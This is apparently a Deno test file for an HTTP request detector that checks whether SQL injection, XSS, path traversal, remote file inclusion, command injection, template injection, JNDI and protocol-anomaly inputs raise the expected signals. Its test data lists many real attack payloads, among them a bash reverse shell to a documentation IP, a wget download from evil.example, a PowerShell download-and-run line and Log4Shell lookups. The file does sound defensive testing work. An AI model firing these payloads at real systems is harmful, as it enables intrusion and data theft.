import { assert } from "@std/assert";
import type { Signal } from "../../lib/signals/signal.ts";
import { shown } from "./_seen.ts";

/** Attacks as the value of a parameter, by the expected signal. */
const VALUES: Partial<Record<Signal, readonly string[]>> = {
  sqli: [
    "7 and 0",
    "-3 or 0",
    "12') and false-- x",
    "4||1",
    "2 && null",
    "9;if(81=81) select 81 else drop function f--",
    "3';waitfor#ab\ndelay#cd\n'0:0:3'--",
    "8--\nand--\n51=52",
    "-1 OR 2+81-81-1=0+0+0+1 --",
    "-1' or 3+5-5-1=0+0+0+1 or 'p'='",
    "8'\"",
    "1' ORDER BY 3--",
    "' AND 1=CONVERT(int,@@version)--",
    "admin' OR 'a'='a",
    "') OR ('1'='1",
    "1 OR 1=1",
    "' OR ''='",
    "1' AND SLEEP(5)#",
    "'; EXEC xp_cmdshell('dir')--",
    "-1' UNION ALL SELECT NULL,NULL,concat(0x71,0x62)-- -",
    "1'||(SELECT 1 FROM dual)||'",
    "1;SELECT PG_SLEEP(5)--",
    "1'/**/or/**/1=1--",
    "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
    "x' AND email IS NULL; --",
    "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
    "admin'--",
    "1 && 1=1",
    "‘ or 1=1-- -",
    "OR '{\"b\":2}'::jsonb <@ '{\"a\":1}'::jsonb",
    "*)(uid=*))(|(uid=*",
    "1' and (select substring(@@version,1,1))='5",
    "SELECT name, password FROM users",
    "ann' OR '7",
    "x') or ('",
    "5 or id=id",
    "1; select session_user",
  ],
  xss: [
    "7'abc<'\">def",
    "<svg onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "'-alert(1)-'",
    '" autofocus onfocus=alert(1) x="',
    "<ScRiPt>alert(1)</sCrIpT>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "top['al'+'ert'](1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)",
    "＜script＞alert(1)＜/script＞",
    "[].sort.call`${alert}1337`",
    "(![]+[])[+[]]",
    "(confirm)(document.domain)",
    "f=prompt,f(1)",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "+ADw-script+AD4-alert(1)",
  ],
  lfi: [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%c0%af..%c0%afsrv%c0%afkeys",
    "..%25c0%25af..%25c0%25afsrv",
    "..%c0%2f..%c0%2fsrv",
    "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/srv",
    "%f0%80%80%ae%f0%80%80%ae%c1%9c..%c1%9cwindows%c1%9cwin.ini",
    "D:\\nginx\\conf\\nginx.conf",
    "/opt/httpd/logs/access_log",
    "../logs/error.log",
    "/etc/shadow",
    "....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/proc/self/environ",
    "file:///etc/passwd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/etc/passwd\0.jpg",
    "~/.ssh/id_rsa",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
  ],
  rfi: [
    "http://x7.oast.fun/a",
    "//k.interact.sh",
    "http://evil.example/shell.txt?",
    "http://203.0.113.4/shell.php",
    "php://input",
    "expect://id",
    "data://text/plain;base64,PD9waHA=",
    "gopher://127.0.0.1:6379/_x",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::1]/",
    "http://2130706433/",
    "phar://x.phar",
  ],
  rce: [
    "a\\nid",
    "%5cncat%20/srv/keys",
    "192.0.2.1\\r\\nuname -r",
    "%5cn/usr/bin/env%5cn",
    "x%5Cnsleep 7%5Cn",
    ";sleep 9;",
    "a|sleep 9&",
    "h&ping -n 2 192.0.2.1",
    "x$()\\ y",
    ";id",
    "|id",
    "`id`",
    "$(id)",
    "&& cat /etc/passwd",
    "; wget http://evil.example/x.sh -O /tmp/x",
    "bash -i >& /dev/tcp/203.0.113.4/4444 0>&1",
    "cmd.exe /c dir",
    "powershell -enc SQBFAFgA",
    "() { :;}; echo vulnerable",
    "c''at /etc/passwd",
    "ca\\t /etc/passwd",
    "cat${IFS}/etc/passwd",
    "{cat,/etc/passwd}",
    "/???/??t /???/p??s??",
    "who$@ami",
    "/bi[n]/bash",
    "IEX(New-Object Net.WebClient).DownloadString('http://x')",
    "\nls",
    "~+",
  ],
  code: [
    "index/think\\View/display",
    "#{9*9}",
    "{81*81}",
    "@(81*81)",
    "';print(md5(81));$b='",
    "'+response.write(81*81)+'",
    "' || this.role.match(/a/)//",
    "7';return true;//",
    "<?php phpinfo(); ?>",
    "index/\\think\\app/invokefunction",
    "/index/\\\\think\\\\Request/input",
    "index/think/container/invokefunction",
    "<php>die(@md5(HelloThinkCMF))</php>",
    "';die(md5(1));//",
    "eval($_POST['x'])",
    "exec/*comment*/('id')",
    "exec #comment\n('id')",
    'O:4:"User":1:{s:4:"name";s:1:"a";}',
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
    "require('child_process').exec('id')",
    "__import__('os').system('id')",
    "class.module.classLoader.resources.context",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
    "$_GET[0]($_GET[1])",
    "@{[system 'id']}",
    "while(!false)",
    "d2hpbGUodHJ1ZSk7Cg==",
    '<!--#exec cmd="id"-->',
    "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
  ],
  jndi: [
    "${jndi:ldap://evil.example/a}",
    "${jndi:${lower:l}${lower:d}ap://x}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://x}",
    "%24%7Bjndi:rmi://x%7D",
  ],
};

for (const [signal, values] of Object.entries(VALUES)) {
  Deno.test(`signalsOf() sees ${signal} in a query`, () => {
    for (const value of values) {
      const target = `/?x=${encodeURIComponent(value)}`;
      const words = shown({ target });
      assert(words.includes(signal), `${value}: ${words.join(", ")}`);
    }
  });
}

/** In other places than a parameter's value. */
interface Request {
  method?: string;
  target?: string;
  protocol?: string;
  headers?: Record<string, string>;
  body?: string;
  bodyType?: string;
}
const REQUESTS: readonly [Signal, string, Request][] = [
  ["sqli", "a path's segment", { target: "/item/1'%20or%20'1'='1/edit" }],
  ["sqli", "a user agent", { headers: { "user-agent": "x' or 1=1--" } }],
  ["sqli", "a cookie's name", {
    headers: { cookie: "a=1; ' or 1=1--=2" },
  }],
  ["sqli", "a parameter's name", { target: "/?u_id[$ne]=2" }],
  ["sqli", "JSON", { body: '{"a":"x\' or 1=1--"}' }],
  ["sqli", "the name in JSON", { body: '{"x\' or 1=1--":"a"}' }],
  ["sqli", "XML's attributes", {
    body: `<?xml version="1.0"?><a b="1&quot; or &quot;1&quot;=&quot;1"/>`,
    bodyType: "text/xml",
  }],
  ["xss", "a referrer", {
    headers: { referer: "https://a.example/?q=%3Cscript%3Ealert(1)" },
  }],
  ["xss", "any field", { headers: { "x-name": "<script>alert(1)</script>" } }],
  ["lfi", "a path that climbs out, encoded", {
    target: "/static/..%2f..%2f..%2fetc/passwd",
  }],
  ["lfi", "a path that climbs out, in capitals and twice", {
    target: "/%252E%252E%252F%252E%252E/x",
  }],
  ["lfi", "a path that climbs out by backslashes", {
    target: "/static/..%5c..%5cwindows%5cwin.ini",
  }],
  ["lfi", "a path without any odd character", { target: "/@fs/etc/passwd" }],
  ["lfi", "the system's files at the root", { target: "/proc/self/environ" }],
  ["lfi", "a file of the system before a question mark", {
    target: "/html/usr/share/locale/locale.alias%3F",
  }],
  ["lfi", "an uploaded name", { headers: { "x-file-name": ".htaccess" } }],
  ["code", "an uploaded name", { headers: { "x-filename": "a.php5..." } }],
  ["code", "the name of a file in a form", {
    method: "POST",
    bodyType: "multipart/form-data; boundary=x",
    body:
      '--x\r\nContent-Disposition: form-data; name="f"; filename="a. phtml"\r\n\r\nx\r\n--x--',
  }],
  ["code", "a content type", {
    headers: { "content-type": "%{(#nike='multipart/form-data').(#dm=@ognl" },
  }],
  ["rce", "a user agent", { headers: { "user-agent": "() { :;}; /bin/id" } }],
  ["rce", "a user agent that is a command line", {
    headers: { "user-agent": "ansible-vault decrypt secret" },
  }],
  ["jndi", "a user agent", {
    headers: { "user-agent": "Mozilla/5.0 ${${lower:j}ndi:ldap://x}" },
  }],
  ["jndi", "an authorization", {
    headers: { authorization: "Basic ${jndi:dns://x}" },
  }],
  ["rfi", "a page of somebody else's", {
    target: "/index.php?page=http://evil.example/x",
  }],
  ["scanner", "a tool's name", { headers: { "user-agent": "sqlmap/1.8" } }],
  ["scanner", "a scanner's field", { headers: { "acunetix-scan": "1" } }],
  ["probe", "settings", { target: "/.env" }],
  ["probe", "settings, encoded and in capitals", { target: "/%2eENV.bak" }],
  ["probe", "an assistant's folder", { target: "/app/.claude/settings.json" }],
  ["probe", "a shell", { target: "/uploads/s72_Shell.php" }],
  ["proxy", "CONNECT", { method: "CONNECT", target: "smtp.example:25" }],
  ["proxy", "an absolute target", {
    target: "http://other.example/",
    headers: { host: "www.example.org" },
  }],
  ["protocol", "a method that nobody has", { method: "FOO" }],
  ["protocol", "a method in lower case", { method: "get" }],
  ["protocol", "a method with what does not belong to it", {
    method: "|GET",
  }],
  ["protocol", "a target that is none", { target: "foo" }],
  ["protocol", "a version that is none", { protocol: "HTTP/1.2" }],
  ["protocol", "a zero byte", { target: "/?a=b%00" }],
  ["protocol", "control characters", { target: "/?a=b%03" }],
  ["protocol", "an overlong form", { target: "/?a=%c0%af" }],
  ["protocol", "letters encoded twice", {
    target: "/?a=%2573%256f%256d%2565",
  }],
  ["protocol", "a field after an encoded line end", {
    target: "/?a=%0d%0aSet-Cookie:%20a=b",
  }],
  ["protocol", "a field after a line end that is encoded twice", {
    target: "/?a=x%250d%250aSet-Cookie%253a%2520a=b",
  }],
  ["protocol", "a request in a value", {
    target: "/?a=GET%20http%3A%2F%2Fx%20HTTP%2F1.1",
  }],
  ["protocol", "more ranges than anybody reads", {
    headers: { range: "bytes=1-2,3-4,5-6,7-8,9-10,11-12" },
  }],
  ["protocol", "two alphabets for one text", {
    headers: { "content-type": "text/plain; charset=utf-8; charset=utf-7" },
  }],
  ["protocol", "a length that is no number", {
    headers: { "content-length": "1e3" },
  }],
];

for (const [signal, where, request] of REQUESTS) {
  Deno.test(`signalsOf() sees ${signal} in ${where}`, () => {
    const { headers, ...rest } = request;
    const words = shown({
      ...rest,
      ...headers ? { headers: Object.entries(headers) } : {},
    });
    assert(words.includes(signal), words.join(", "));
  });
}

Deno.test("signalsOf() counts no registered method, WebDAV's and caches' included", () => {
  for (
    const method of [
      "GET",
      "HEAD",
      "POST",
      "PUT",
      "DELETE",
      "OPTIONS",
      "TRACE",
      "PATCH",
      "QUERY",
      "PROPFIND",
      "PROPPATCH",
      "MKCOL",
      "COPY",
      "MOVE",
      "LOCK",
      "UNLOCK",
      "REPORT",
      "MKACTIVITY",
      "CHECKOUT",
      "MERGE",
      "MKCALENDAR",
      "ACL",
      "SEARCH",
      "BIND",
      "LINK",
      "PURGE",
      "NOTIFY",
      "SUBSCRIBE",
      "M-SEARCH",
    ]
  ) {
    const words = shown({ method });
    assert(words.length === 0, `${method}: ${words.join(", ")}`);
  }
});

Deno.test("signalsOf() takes an absolute target for its own host for an ordinary one", () => {
  for (const host of ["www.example.org", "WWW.example.org:80"]) {
    const words = shown({
      target: "http://www.example.org/a",
      headers: [["host", host]],
    });
    assert(words.length === 0, words.join(", "));
  }
});
